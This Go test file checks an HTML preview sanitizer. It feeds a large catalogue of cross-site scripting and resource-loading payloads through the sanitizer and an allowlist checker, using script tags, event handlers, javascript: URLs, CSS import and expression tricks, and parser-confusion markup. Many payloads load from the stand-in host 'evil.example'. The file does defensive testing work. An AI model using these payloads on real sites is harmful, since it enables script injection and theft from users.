package preview

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile are pages that try to run something, to load something from host, or to lead
// there.
func hostile() []string {
	const host = "//evil.example/"
	pages := []string{
		`<script>alert(1)</script>`, `<script src=` + host + `></script>`, `<SCRIPT/XSS SRC="` + host + `"></SCRIPT>`, `<script>a</script`, `<scr<script>ipt>alert(1)</script>`,
		`<script>x='<!--<script>'</script>alert(1)</script>`, `<script type=module src=` + host + `>`, `<script type=importmap>{}</script>`, `<script type=speculationrules>{"prefetch":[]}</script>`,
		`<img src=x onerror=alert(1)>`, `<img src=x oNeRrOr=alert(1)>`, `<img src=x onerror
=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\x00onerror=alert(1)>", `<img src="x"onerror=alert(1)>`, `<img """><script>alert(1)</script>">`,
		`<body onload=alert(1) background=` + host + `>`, `<p onclick=alert(1) onmouseover=alert(1)>`, `<details ontoggle=alert(1) open>`, `<input autofocus onfocus=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">`, `<a href="java	script:alert(1)">`, `<a href="&#106;avascript:alert(1)">`, "<a href=\"\x01javascript:alert(1)\">", `<a href=vbscript:x>`, `<a href="data:text/html,<script>alert(1)</script>">`,
		`<a href=` + host + ` ping=` + host + ` target=_top rel=opener>x</a>`, `<a href="#x` + "\n" + `">x</a>`, `<area href=` + host + `>`, `<a xlink:href=` + host + `>`,
		`<meta http-equiv=refresh content="0;url=` + host + `">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta http-equiv=set-cookie content=a=b>`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>`,
		`<base href=` + host + `>`, `<base target=_top>`,
		`<form action=` + host + `><input name=a><button>x</button></form>`, `<button formaction=` + host + `>x`, `<input type=image src=` + host + `>`, `<input type=submit formaction=` + host + `>`, `<form id=x></form><button form=x formaction=javascript:alert(1)>`, `<input type=file>`, `<input type=password name=p>`, `<isindex action=` + host + `>`,
		`<link rel=stylesheet href=` + host + `>`, `<link rel=preconnect href=` + host + `>`, `<link rel=dns-prefetch href=` + host + `>`, `<link rel=icon href=` + host + `>`, `<link rel=preload as=image href=` + host + `>`, `<link rel=prerender href=` + host + `>`, `<link rel=modulepreload href=` + host + `>`, `<link rel=manifest href=` + host + `>`, `<link rel=import href=` + host + `>`, `<link rel="prefetch" imagesrcset="` + host + ` 1x">`,
		`<iframe src=` + host + `></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe/onload=alert(1)>`, `<frameset><frame src=` + host + `></frameset>`, `<portal src=` + host + `>`, `<fencedframe src=` + host + `>`,
		`<object data=` + host + `></object>`, `<object><param name=movie value=` + host + `></object>`, `<embed src=` + host + `>`, `<applet code=x codebase=` + host + `>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script href=` + host + ` /></svg>`, `<svg><image href=` + host + ` /></svg>`, `<svg><use href=` + host + `#x /></svg>`, `<svg><a href=javascript:alert(1)><text>x`, `<svg><animate attributeName=href values=javascript:alert(1)>`, `<svg><set attributeName=onload to=alert(1)>`, `<svg><foreignObject><iframe src=` + host + `></foreignObject></svg>`, `<svg><style>@import "` + host + `"</style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<math><mi xlink:href="javascript:alert(1)">x`, `<math href=javascript:alert(1)>x`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<img srcset="` + host + ` 1x">`, `<img src=` + host + ` lowsrc=` + host + ` dynsrc=` + host + ` longdesc=` + host + ` usemap=#x>`, `<picture><source srcset=` + host + `><img></picture>`, `<image src=` + host + `>`, `<video src=` + host + ` poster=` + host + `>`, `<video><source src=` + host + ` onerror=alert(1)></video>`, `<audio src=` + host + ` autoplay>`, `<track src=` + host + `>`, `<bgsound src=` + host + `>`,
		`<table background=` + host + `><td background=` + host + `>`, `<q cite=` + host + `>`, `<blockquote cite=` + host + `>`, `<del cite=` + host + `>`, `<marquee onstart=alert(1)>x`, `<menuitem icon=` + host + `>`, `<command icon=` + host + `>`,
		`<style>@import "` + host + `";</style>`, `<style>@import url(` + host + `);</style>`, `<style>@im\port "` + host + `";</style>`, `<style>@\69mport "` + host + `";</style>`, `<style>p{background:url(` + host + `)}</style>`, `<style>p{background:u\rl(` + host + `)}</style>`, `<style>p{background:\75 rl("` + host + `")}</style>`,
		`<style>p{background:url(/**/` + host + `)}</style>`, `<style>p{background:url( ` + "\n" + `"` + host + `")}</style>`, `<style>p{background:URL('` + host + `')}</style>`, `<style>p{background:image-set("` + host + `" 1x)}</style>`, `<style>p{background:-webkit-image-set("` + host + `" 1x)}</style>`, `<style>p{background:image("` + host + `")}</style>`, `<style>p{background:src("` + host + `")}</style>`, `<style>p{background:cross-fade("` + host + `",red)}</style>`,
		`<style>@font-face{font-family:x;src:url(` + host + `)}p{font-family:x}</style>`, `<style>@namespace url(` + host + `);</style>`, `<style>@charset "utf-7";</style>`, `<style>@media all{@import "` + host + `";p{background:url(` + host + `)}}</style>`, `<style>@document url(` + host + `){}</style>`,
		`<style>p{behavior:url(` + host + `)}</style>`, `<style>p{-moz-binding:url(` + host + `#x)}</style>`, `<style>p{width:expression(alert(1))}</style>`, `<style>p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='` + host + `')}</style>`, `<style>p{cursor:url(` + host + `),auto;content:url("` + host + `");list-style:url(` + host + `);mask:url(` + host + `)}</style>`,
		`<style>:root{--a:url(` + host + `);--b:"` + host + `"}p{background:var(--a)}</style>`, `<style>p{a:"\` + "\n" + `";background:url(` + host + `)}</style>`, `<style>p{a:"x` + "\n" + `;background:url(` + host + `)}</style>`, `<style>/*</style><img src=x onerror=alert(1)>*/</style>`, `<style><!-- p{background:url(` + host + `)} --></style>`, `<style>p{content:"</style><script>alert(1)</script>"}</style>`, `<style>p{content:"\3c/style><script>alert(1)</script>"}</style>`,
		`<p style="background:url(` + host + `)">`, `<p style="background:&#117;rl(` + host + `)">`, `<p style='background:url("` + host + `")'>`, `<p style="a:b;}*{background:url(` + host + `)">`, `<div style="background-image:\0075\0072\006C\0028'` + host + `'\0029">`, `<div style="width: expression(alert(1));">`,
		// What a second reading could see otherwise.
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<noscript><style></noscript><img src=x onerror=alert(1)>`, `<template><p title="</template><img src=x onerror=alert(1)>"></template>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
		`<textarea></textarea><img src=x onerror=alert(1)></textarea>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<title><a title="</title><img src=x onerror=alert(1)>"></title>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`, `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<pre>&lt;img src=x onerror=alert(1)&gt;</pre>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><math><p title="</math><img src=x onerror=alert(1)>">`, `<select><template><img src=x onerror=alert(1)></template></select>`, `<select><style></select><img src=x onerror=alert(1)>`, `<table><caption><svg><style></caption><img src=x onerror=alert(1)>`, `<p id="</p><img src=x onerror=alert(1)>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml-stylesheet href="` + host + `"?>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "` + host + `">]>`, `<!doctype html SYSTEM "` + host + `">`, `<%<img src=x onerror=alert(1)>%>`, `</p title="><img src=x onerror=alert(1)>">`, `<p/title="x"/onclick=alert(1)>`, `<p title='x' ='onclick=alert(1)'>`, "<p title=`<img src=x onerror=alert(1)>`>", `<p title="&quot;><img src=x onerror=alert(1)>">`, "<a title=\"x\u2028onclick=alert(1)\">", `<p "onclick=alert(1)">`, `<x-y onclick=alert(1)>z</x-y>`, `<p is=x-y>`, `<slot name=x>`,
		`<img src="data:text/html,<script>alert(1)</script>">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src=" javascript:alert(1)">`, `<img src=blob:x>`, `<img src=filesystem:x>`, `<img src="data:image/png;base64,AAAA" onload=alert(1)>`,
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00", "<\xc0\xbcscript>", "<img src=x onerror=\x1b$Balert(1)>", `<dialog open><form method=dialog action=` + host + `>`, `<p popover onbeforetoggle=alert(1)>`, `<button popovertarget=x commandfor=x command=show-modal>`, `<p contenteditable onpaste=alert(1)>`, `<div tabindex=0 accesskey=x onfocus=alert(1)>`, `<input onsearch=alert(1) type=search>`, `<body><frameset onload=alert(1)>`, `<html manifest=` + host + ` onload=alert(1)>`, `<head profile=` + host + `>`,
	}
	var all []string
	for _, p := range pages { // each in its own, behind what is open, and in what is dropped
		all = append(all, p, "<table><tr><td><select><b><style>x</style>"+p, "<svg><desc>"+p, "<math><mi>"+p, "<noscript>"+p, "<textarea>"+p, "<a title=\""+p, "<style>"+p, "<!--"+p, "<p style=\"a:'"+p)
	}
	return all
}

// The elements and attributes that may be there.
var (
	elements   = strings.Fields("html head meta body div span p br hr wbr h1 h2 h3 h4 h5 h6 hgroup header footer main nav section article aside address search ul ol li dl dt dd menu blockquote pre figure figcaption table caption colgroup col thead tbody tfoot tr td th a abbr acronym b bdi bdo big cite code data del dfn em font i ins kbd mark nobr q rp rt ruby s samp small strike strong sub sup time tt u var center img details summary label button input select optgroup option textarea fieldset legend meter progress output style")
	attributes = strings.Fields("charset class id title lang dir alt width height align valign bgcolor color face size border cellpadding cellspacing colspan rowspan span scope headers nowrap hspace vspace rules frame text clear noshade start reversed value open hidden datetime placeholder rows cols checked disabled readonly selected multiple label min max low high optimum compact style src href type")
	loading    = regexp.MustCompile(`(?i)url\s*\(|@import|@font-face|@namespace|image-set|src\(|expression|behavior|-moz-binding|cross-fade|[^-]image\(|<`)
	quoted     = regexp.MustCompile(`"(?:[^"\\\n]|\\.)*"`)
	embedded   = regexp.MustCompile(`url\("data:image/[^"'()\\<> ]*"\)`)
)

// check says what in a page could do something, however it is read.
func check(page []byte) error {
	for _, scripting := range []bool{false, true} {
		doc, err := html.ParseWithOptions(strings.NewReader(string(page)), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			return err
		}
		for n := range doc.Descendants() {
			if err := checkNode(n); err != nil {
				return err
			}
		}
	}
	return nil
}

// reaches says that a style sheet could load something, or that it can be read in two ways.
func reaches(css string) bool {
	css = quoted.ReplaceAllString(embedded.ReplaceAllString(css, ""), "")
	return loading.MatchString(css) || strings.ContainsAny(css, `"'\<`) || strings.Contains(css, "/*")
}

func checkNode(n *html.Node) error {
	switch {
	case n.Type == html.CommentNode:
		return fmt.Errorf("a comment: %q", n.Data)
	case n.Type == html.TextNode && n.Parent.Data == "style":
		if reaches(n.Data) {
			return fmt.Errorf("a style sheet: %q", n.Data)
		}
		return nil
	case n.Type != html.ElementNode:
		return nil
	case n.Namespace != "" || !slices.Contains(elements, n.Data):
		return fmt.Errorf("an element: %s:%s", n.Namespace, n.Data)
	}
	for _, a := range n.Attr {
		switch {
		case a.Namespace != "" || !slices.Contains(attributes, a.Key):
			return fmt.Errorf("an attribute: %s of %s", a.Key, n.Data)
		case a.Key == "src" && (n.Data != "img" || !strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "data:image/")),
			a.Key == "href" && (n.Data != "a" || !strings.HasPrefix(a.Val, "#")),
			a.Key == "charset" && (n.Data != "meta" || a.Val != "utf-8"),
			n.Data == "meta" && len(n.Attr) != 1,
			a.Key == "type" && n.Data == "input" && (a.Val == "image" || a.Val == "file" || a.Val == "password" || a.Val == "submit"),
			a.Key == "style" && reaches(a.Val):
			return fmt.Errorf("a value: %s=%q of %s", a.Key, a.Val, n.Data)
		}
	}
	return nil
}

func TestNothingOfAHostilePageIsLeft(t *testing.T) {
	for _, page := range hostile() {
		for _, contentType := range []string{"text/html", "text/html; charset=iso-2022-jp", "text/html; charset=utf-16le", "text/html; charset=shift_jis"} {
			out := HTML([]byte(page), contentType)
			if err := check(out); err != nil {
				t.Errorf("%s of %q leaves %v: %q", contentType, page, err, out)
			}
			if again := HTML(out, "text/html"); check(again) != nil {
				t.Errorf("twice, %q becomes %q", page, again)
			}
		}
	}
}

// The check would notice what is looked for.
func TestCheckNotices(t *testing.T) {
	for _, page := range []string{
		`<script>x</script>`, `<p onclick=x>`, `<a href=http://x>`, `<img src=x>`, `<img src=data:text/html,x>`, `<style>@import "x"</style>`, `<style>p{a:url(x)}</style>`, `<p style="a:url(x)">`,
		`<svg>`, `<math>`, `<form>`, `<template>`, `<!-- x -->`, `<meta http-equiv=refresh content=0>`, `<iframe>`, `<link>`, `<input type=image>`, `<noscript>x</noscript>`, `<img src="data:image/png,x" srcset=y>`, `<style>p{a:image-set("x")}</style>`,
	} {
		if check([]byte(page)) == nil {
			t.Errorf("%s is not noticed", page)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, page := range hostile() {
		f.Add([]byte(page), "text/html")
	}
	f.Fuzz(func(t *testing.T, page []byte, contentType string) {
		out := HTML(page, contentType)
		if err := check(out); err != nil && !strings.Contains(err.Error(), "512") {
			t.Fatalf("%q leaves %v: %q", page, err, out)
		}
	})
}
